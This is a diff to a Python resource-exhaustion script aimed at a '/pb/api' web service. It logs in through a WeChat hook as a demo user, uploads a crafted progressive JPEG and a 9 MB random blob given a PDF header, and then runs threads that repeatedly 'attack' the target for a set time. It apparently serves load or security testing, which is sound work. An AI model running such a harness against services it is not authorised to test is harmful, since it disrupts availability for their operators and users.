@@ -52,12 +52,15 @@ class Target:
         """Whether it is time to stop."""
         return time.monotonic() > self.until
 
-    def prepare(self) -> None:
-        """Log in and upload what some kinds ask for."""
+    def prepare(self, kind: str) -> None:
+        """Log in and upload what the kind asks for. Raises: `AssertionError` where that is refused."""
         data = self._hook("wechat/login", {"users_wx_code": "demo-mallory"})
         self.token = data["token"]
-        self.picture = self._upload("scans.jpg", _progressive(), "image/jpeg")
-        self.file = self._upload("large.bin", os.urandom(9 * 1024 * 1024), "application/pdf")
+        if kind == thumbnail.__name__:
+            self.picture = self._upload("scans.jpg", _progressive(), "image/jpeg")
+        if kind == file_reader.__name__:
+            content = b"%PDF-1.7\n" + os.urandom(9 * 1024 * 1024)
+            self.file = self._upload("large.pdf", content, "application/pdf")
 
     def _hook(self, path: str, body: Mapping[str, object]) -> dict[str, str]:
         answer = requests.post(f"{self.url}/pb/api/{path}", json=body, timeout=30)
@@ -65,15 +68,14 @@ class Target:
         return found
 
     def _upload(self, name: str, content: bytes, kind: str) -> str:
-        """Upload a file. Returns: its path, or that of a product's picture where it is refused."""
+        """Upload a file. Returns: its path."""
         answer = requests.post(
             f"{self.url}/pb/api/collections/tbl_attachments/records",
             headers={"Authorization": f"Bearer {self.token}"},
             files={"attachments_link": (name, content, kind)},
             timeout=30,
         )
-        if answer.status_code != 200:
-            return ""
+        assert answer.status_code == 200, f"{name} was refused: {answer.text}"
         row = answer.json()
         return f"/pb/api/files/tbl_attachments/{row['id']}/{row['attachments_link']}"
 
@@ -257,7 +259,7 @@ def _again_and_again(attack: Attack, target: Target) -> None:
 def main(kind: str, url: str, connections: str, seconds: str) -> None:
     """Attack for so long; one line on stdout says that it has begun."""
     target = Target(url, time.monotonic() + float(seconds) + TIMEOUT_S)
-    target.prepare()
+    target.prepare(kind)
     target.until = time.monotonic() + float(seconds)
     threads = [
         threading.Thread(target=_again_and_again, args=(KINDS[kind], target), daemon=True)
